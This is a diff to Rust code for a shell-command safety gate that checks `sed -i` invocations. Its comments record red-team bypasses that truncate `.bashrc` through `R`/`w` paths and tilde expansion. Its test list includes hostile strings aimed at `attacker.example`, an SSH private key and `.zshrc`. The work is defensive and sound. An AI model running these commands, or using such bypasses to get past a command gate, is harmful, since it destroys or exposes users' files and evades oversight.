@@ -393,14 +393,18 @@ fn sed_in_place_check(parsed: &Parsed, grammar: &Grammar, args: &[String]) -> Re
 /// opens (and truncates) the file of every `w` command and `w` flag, in both seds, and GNU
 /// sed opens the file of every `R` command too (red-team: `sed -i -e 'R /net/HOST/x'` made it
 /// open any path, a FIFO or a device). So a script with no `w`, `W` or `R` anywhere in it does
-/// nothing at all in this reading. The other reading of the same words (GNU's, with the file)
-/// is judged on its own.
+/// nothing at all in this reading. The letters are looked for in the words bash will pass, so a
+/// script the gate holds with `~` (a tilde or `$HOME`, which the gate writes as `~`) is refused:
+/// its real text is the user's home directory, whose letters the gate does not know (red-team:
+/// for a home `/home/wendy`, `sed -i -e ~/../../.bashrc` compiles `/home/` `w endy/../../.bashrc`
+/// and truncates `.bashrc`). The other reading of the same words (GNU's, with the file) is
+/// judged on its own.
 fn sed_in_place_without_files(parsed: &Parsed, grammar: &Grammar, args: &[String]) -> Result<(), String> {
     let mut scripts = values(parsed, grammar, "e")
         .chain(parsed.operands.iter().filter(|(_, role)| *role == Role::Script).map(|(word, _)| args[*word].as_str()));
-    match scripts.find(|script| script.contains(['w', 'W', 'R'])) {
+    match scripts.find(|script| script.contains(['w', 'W', 'R', '~'])) {
         Some(script) => Err(format!(
-            "compiles the sed script `{script}` with no file to edit, and a `w` or `R` in it may open a file"
+            "compiles the sed script `{script}` with no file to edit, and a `w` or `R` in it (or in the home directory `~` stands for) may open a file"
         )),
         None => Ok(()),
     }
@@ -2141,6 +2145,8 @@ pub static SAFE_COMMANDS: &[SafeEntry] = &[
             "sed -i 's/a/b/' src/www.rs",
             "sed -i 's/a/b/' 'w /home/dev/.bashrc'",
             "sed -i -e 'R /net/secret-token.attacker.example/x'",
+            "sed -i -n ~/../../.ssh/id_ed25519",
+            "sed -i -e $HOME/../../.zshrc",
             "sed -i.bak 's/a/b/' src/lib.rs",
         ],
         // BSD sed's `-i` takes the next word as the backup suffix (`-i ''` keeps none), so
